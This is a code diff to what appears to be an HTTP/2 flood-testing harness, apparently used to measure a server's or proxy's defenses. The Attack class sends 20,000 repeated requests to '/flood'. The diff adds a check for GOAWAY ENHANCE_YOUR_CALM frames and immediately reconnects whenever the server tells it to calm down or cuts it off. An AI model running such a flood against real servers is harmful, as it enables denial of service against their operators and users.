@@ -22,6 +22,7 @@ from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, H
 
 PATH = "/flood"   # what it asks for
 REPEATED = 20_000   # more than any server should put up with
+CALM = b"\0\0\0\x0b"   # ENHANCE_YOUR_CALM
 PAUSE = 0.02   # within which requests have reached the origin
 
 
@@ -93,15 +94,15 @@ class Attack:
             if not self.greeted:
                 self.socket.do_handshake()
                 self.greeted = True
-            self._receive()
-            if writable and self.rests_until is None:
+            if not self._stays():
+                self._come_again(selector)
+            elif writable and self.rests_until is None:
                 self._send(selector)
         except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
             pass
         except OSError:   # cut off
             self.done["cut_off"] += 1
-            self.end(selector)
-            self.begin(selector)
+            self._come_again(selector)
 
     def _send(self, selector):
         part = self.parts[self.part]
@@ -121,17 +122,20 @@ class Attack:
             self.rests_until = None
             selector.modify(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)
 
-    def _receive(self):
+    def _stays(self):
+        """Until it is told to calm down, or cut off."""
         try:
-            while self._hear(self.socket.recv(65536)):
-                pass
-            raise ConnectionResetError
+            while octets := self.socket.recv(65536):
+                if any(kind == GOAWAY and payload[4:8] == CALM for kind, _, _, payload in self.incoming.take(octets)):
+                    self.done["calmed"] += 1
+                    return False
         except (ssl.SSLWantReadError, BlockingIOError):
-            pass
+            return True
+        raise ConnectionResetError
 
-    def _hear(self, octets):
-        """Whether it may stay."""
-        return octets and all(kind != GOAWAY for kind, *_ in self.incoming.take(octets))
+    def _come_again(self, selector):
+        self.end(selector)
+        self.begin(selector)
 
     def end(self, selector):
         selector.unregister(self.socket)
@@ -170,7 +174,7 @@ class Attacker:
                                         stdout=subprocess.PIPE, text=True, preexec_fn=lambda: os.setpriority(os.PRIO_PROCESS, 0, 15))
 
     def wait(self):
-        """What it did: connections, those that were cut off, those that took all of the flood, octets."""
+        """What it did: connections, those that were told to calm down or cut off, those that took all of the flood, octets."""
         said, _ = self.process.communicate(timeout=120)
         return collections.Counter(json.loads(said))
 
